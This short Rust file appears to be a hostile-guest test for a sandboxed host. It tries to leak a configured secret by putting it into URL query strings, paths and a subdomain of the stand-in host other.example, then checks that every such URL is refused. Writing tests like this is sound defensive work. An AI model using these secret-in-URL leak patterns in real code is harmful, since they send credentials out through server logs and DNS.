//! Puts the secret into the URL, from where it gets into the logs of servers.

use hostile_guests::{Batch, Config, Error, Hostile, all_urls_refused, hostile, secret};

struct Guest;

impl Hostile for Guest {
    fn collect(config: &Config, _cursor: Option<&str>) -> Result<Batch, Error> {
        let secret = secret("secret").unwrap_or_default();
        let (api, token) = (config.text("api_url"), config.text("token_url"));
        all_urls_refused([
            format!("{token}?secret={secret}"),
            format!("{token}/{secret}"),
            format!("{api}?secret={secret}"),
            format!("https://{secret}.other.example/"),
        ])
    }
}

hostile!(Guest);
